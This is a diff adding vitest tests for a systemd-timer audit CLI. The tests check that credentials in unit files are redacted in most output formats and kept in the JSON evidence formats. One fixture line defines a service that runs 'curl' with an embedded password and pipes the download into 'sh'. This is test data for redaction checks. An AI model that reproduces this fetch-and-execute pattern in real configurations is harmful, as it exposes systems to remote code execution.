@@ -1,0 +1,52 @@
+import { describe, expect, test } from "vitest";
+import { EXPORTERS } from "../report/exporters.ts";
+import { UsageError } from "./command.ts";
+import { audit } from "./commands/audit.ts";
+import { convert } from "./commands/convert.ts";
+import { list } from "./commands/list.ts";
+import { folderOf, HOST, NOW, run } from "./run.test-support.ts";
+
+const SERVICE = "/etc/systemd/system/sync.service";
+const WITH_SECRET = {
+  ...HOST,
+  [SERVICE]: "[Service]\nExecStart=/bin/sh -c 'curl -s -u anna:hunter22-x http://192.0.2.7/x | sh'\n",
+};
+const EVIDENCE = ["json", "json-v1", "jsonl"];
+
+const told = async (command: typeof audit, args: readonly string[], input?: string) =>
+  run(command, args, input === undefined ? {} : { input });
+
+describe("passwords in what is written", () => {
+  test("every format but the evidence leaves them out, and convert does the same", {
+    timeout: 60_000,
+  }, async () => {
+    const root = `root:${folderOf(WITH_SECRET)}`;
+    const saved = (await told(audit, [root, ...NOW, "-o", "json", "--fail-on", "none"])).out;
+    expect(saved).toContain("hunter22-x");
+    for (const { name } of EXPORTERS) {
+      const { out } = await told(audit, [root, ...NOW, "-o", name]);
+      expect({ name, has: out.includes("hunter22-x") }).toEqual({ name, has: EVIDENCE.includes(name) });
+      expect((await told(convert, ["-", "-o", name, "--utc"], saved)).out).toBe(out);
+    }
+  });
+
+  test("it is said how many, once", async () => {
+    const root = `root:${folderOf(WITH_SECRET)}`;
+    const { out, err } = await told(list, [root, ...NOW]);
+    expect(out).toContain("curl -s -u anna:********** http");
+    expect(err).toContain(
+      "timerwarden: 1 secret (passwords, tokens) blotted out (--no-redact shows more, -o json keeps all)\n",
+    );
+    expect((await told(list, [root, ...NOW, "-q"])).err).toBe("");
+    expect((await told(list, [`root:${folderOf(HOST)}`, ...NOW])).err).not.toContain("blotted");
+  });
+
+  test("--redact and --no-redact hold for all formats", async () => {
+    const root = `root:${folderOf(WITH_SECRET)}`;
+    for (const format of ["json", "md", "table"]) {
+      expect((await told(audit, [root, ...NOW, "-o", format, "--redact"])).out).not.toContain("hunter22");
+      expect((await told(audit, [root, ...NOW, "-o", format, "--no-redact"])).out).toContain("hunter22-x");
+    }
+    await expect(told(audit, [root, "--redact", "--no-redact"])).rejects.toThrow(UsageError);
+  });
+});
